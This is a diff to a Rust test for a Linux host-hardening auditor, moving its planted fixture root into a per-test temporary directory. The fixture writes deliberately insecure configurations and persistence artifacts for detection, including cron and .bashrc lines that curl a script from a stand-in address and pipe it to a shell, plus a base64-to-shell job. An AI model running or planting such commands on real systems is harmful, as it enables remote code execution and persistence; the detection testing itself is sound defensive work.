@@ -12,7 +12,6 @@ use ferret_core::{Control, Finding, HostRoot, Outcome, Severity};
 use ferret_harden::{audit, HardenOptions};
 use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
-use std::sync::OnceLock;
 
 const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";
 
@@ -42,28 +41,42 @@ fn ids() -> (String, String) {
 struct Planted {
     out: Outcome,
     root: HostRoot,
+    // Removed when the test's `Planted` is dropped, so no set-id fixture outlives the tests
+    // (a live audit of the machine would otherwise report them).
+    _dir: tempfile::TempDir,
 }
 
-fn planted() -> &'static Planted {
-    static P: OnceLock<Planted> = OnceLock::new();
-    P.get_or_init(|| {
-        // A static is never dropped, so the planted root lives in the target directory (not
-        // /tmp), under a fixed name recreated by every run.
-        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("harden-planted-root");
-        let _ = std::fs::remove_dir_all(&dir);
-        std::fs::create_dir_all(&dir).unwrap();
-        let r = dir.as_path();
+/// A root with every problem planted, audited; each test builds its own (a few ms).
+fn planted() -> Planted {
+    {
+        let dir = tempfile::Builder::new()
+            .prefix("harden-planted-root")
+            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+            .unwrap();
+        let r = dir.path();
         let (passwd, group) = ids();
         w(r, "etc/passwd", &passwd);
         w(r, "etc/group", &group);
         w(r, "etc/ssh/sshd_config", "# planted\nPermitRootLogin yes\nPasswordAuthentication yes\nPermitEmptyPasswords yes\nKbdInteractiveAuthentication yes\nUsePAM no\nMaxAuthTries 10\nX11Forwarding yes\nAllowTcpForwarding yes\nAllowAgentForwarding yes\nPermitUserEnvironment yes\nCiphers +aes128-cbc\nMACs +hmac-md5\nKexAlgorithms +diffie-hellman-group1-sha1\nLogLevel QUIET\nStrictModes no\nAuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2 /tmp/keys/%u\n");
         w(r, "etc/ssh/sshd_match.conf", "PermitRootLogin no\nPasswordAuthentication no\nAllowGroups sshusers\nCiphers arcfour256,aes256-ctr\nMatch User alice\n  PasswordAuthentication yes\n");
         // sysctl precedence: /etc masks /usr/lib of the same name; /run and sysctl.conf apply.
-        w(r, "usr/lib/sysctl.d/60-x.conf", "kernel.kptr_restrict = 0\n");
+        w(
+            r,
+            "usr/lib/sysctl.d/60-x.conf",
+            "kernel.kptr_restrict = 0\n",
+        );
         w(r, "etc/sysctl.d/60-x.conf", "kernel.kptr_restrict = 1\n");
-        w(r, "etc/sysctl.d/50-bad.conf", "net.ipv4.ip_forward = 1\nkernel/randomize_va_space = 0\n");
+        w(
+            r,
+            "etc/sysctl.d/50-bad.conf",
+            "net.ipv4.ip_forward = 1\nkernel/randomize_va_space = 0\n",
+        );
         w(r, "run/sysctl.d/70-y.conf", "fs.suid_dumpable = 2\n");
-        w(r, "etc/sysctl.conf", "net.ipv4.tcp_syncookies = 0\nnot a line\n");
+        w(
+            r,
+            "etc/sysctl.conf",
+            "net.ipv4.tcp_syncookies = 0\nnot a line\n",
+        );
         // files
         w(r, "tmp/.x/bash", "ELF");
         mode(r, "tmp/.x/bash", 0o4755);
@@ -71,7 +84,11 @@ fn planted() -> &'static Planted {
         mode(r, "usr/local/bin/suidtool", 0o4755);
         w(r, "usr/bin/passwd", "ELF");
         mode(r, "usr/bin/passwd", 0o4755);
-        w(r, "var/lib/dpkg/info/passwd.list", "/.\n/usr\n/usr/bin\n/usr/bin/passwd\n");
+        w(
+            r,
+            "var/lib/dpkg/info/passwd.list",
+            "/.\n/usr\n/usr/bin\n/usr/bin/passwd\n",
+        );
         w(r, "opt/data.txt", "x");
         mode(r, "opt/data.txt", 0o666);
         std::fs::create_dir_all(r.join("srv/drop")).unwrap();
@@ -81,26 +98,78 @@ fn planted() -> &'static Planted {
             std::os::unix::fs::chown(r.join("opt/orphan"), Some(4242), Some(4242)).unwrap();
         }
         // persistence
-        w(r, "etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libhide.so\n");
-        w(r, "etc/cron.d/evil", "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.7/p.sh | sh\n");
-        w(r, "var/spool/cron/crontabs/alice", "@reboot /dev/shm/.k/kworker\n");
-        w(r, "etc/cron.daily/upd", "#!/bin/sh\necho ZWNobyBoaQ== | base64 -d | sh\n");
+        w(
+            r,
+            "etc/ld.so.preload",
+            "/usr/lib/x86_64-linux-gnu/libhide.so\n",
+        );
+        w(
+            r,
+            "etc/cron.d/evil",
+            "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.7/p.sh | sh\n",
+        );
+        w(
+            r,
+            "var/spool/cron/crontabs/alice",
+            "@reboot /dev/shm/.k/kworker\n",
+        );
+        w(
+            r,
+            "etc/cron.daily/upd",
+            "#!/bin/sh\necho ZWNobyBoaQ== | base64 -d | sh\n",
+        );
         w(r, "root/.ssh/authorized_keys", &format!("ssh-ed25519 {KEY} admin@laptop\ncommand=\"/usr/local/bin/backup\",no-pty ssh-ed25519 {KEY} backup\n"));
-        w(r, "home/alice/.ssh/authorized_keys2", &format!("ssh-ed25519 {KEY} hidden\n"));
-        w(r, "home/alice/.ssh/authorized_keys.bak", &format!("ssh-ed25519 {KEY} old\n"));
-        w(r, "etc/systemd/system/updater.service", "[Service]\nExecStart=/tmp/.u/run --quiet\n");
-        w(r, "etc/rc.local", "#!/bin/sh -e\n/opt/agent/start &\nexit 0\n");
-        w(r, "home/alice/.bashrc", "alias ll='ls -l'\ncurl -s http://203.0.113.7/x | bash >/dev/null 2>&1\n");
+        w(
+            r,
+            "home/alice/.ssh/authorized_keys2",
+            &format!("ssh-ed25519 {KEY} hidden\n"),
+        );
+        w(
+            r,
+            "home/alice/.ssh/authorized_keys.bak",
+            &format!("ssh-ed25519 {KEY} old\n"),
+        );
+        w(
+            r,
+            "etc/systemd/system/updater.service",
+            "[Service]\nExecStart=/tmp/.u/run --quiet\n",
+        );
+        w(
+            r,
+            "etc/rc.local",
+            "#!/bin/sh -e\n/opt/agent/start &\nexit 0\n",
+        );
+        w(
+            r,
+            "home/alice/.bashrc",
+            "alias ll='ls -l'\ncurl -s http://203.0.113.7/x | bash >/dev/null 2>&1\n",
+        );
         // services
         std::fs::create_dir_all(r.join("etc/systemd/system/sockets.target.wants")).unwrap();
-        std::os::unix::fs::symlink("/lib/systemd/system/telnet.socket", r.join("etc/systemd/system/sockets.target.wants/telnet.socket")).unwrap();
+        std::os::unix::fs::symlink(
+            "/lib/systemd/system/telnet.socket",
+            r.join("etc/systemd/system/sockets.target.wants/telnet.socket"),
+        )
+        .unwrap();
         w(r, "etc/inetd.conf", "# comment\nshell stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.rshd\n#finger stream tcp nowait nobody /usr/sbin/tcpd in.fingerd\n");
-        w(r, "etc/xinetd.d/tftp", "service tftp\n{\n  socket_type = dgram\n  disable = no\n}\n");
-        w(r, "etc/xinetd.d/finger", "service finger\n{\n  disable = yes\n}\n");
+        w(
+            r,
+            "etc/xinetd.d/tftp",
+            "service tftp\n{\n  socket_type = dgram\n  disable = no\n}\n",
+        );
+        w(
+            r,
+            "etc/xinetd.d/finger",
+            "service finger\n{\n  disable = yes\n}\n",
+        );
         let root = HostRoot::new(r).unwrap();
         let out = audit(&root, &HardenOptions::all(), &Control::new());
-        Planted { out, root }
-    })
+        Planted {
+            out,
+            root,
+            _dir: dir,
+        }
+    }
 }
 
 fn find<'a>(out: &'a Outcome, id: &str) -> Vec<&'a Finding> {
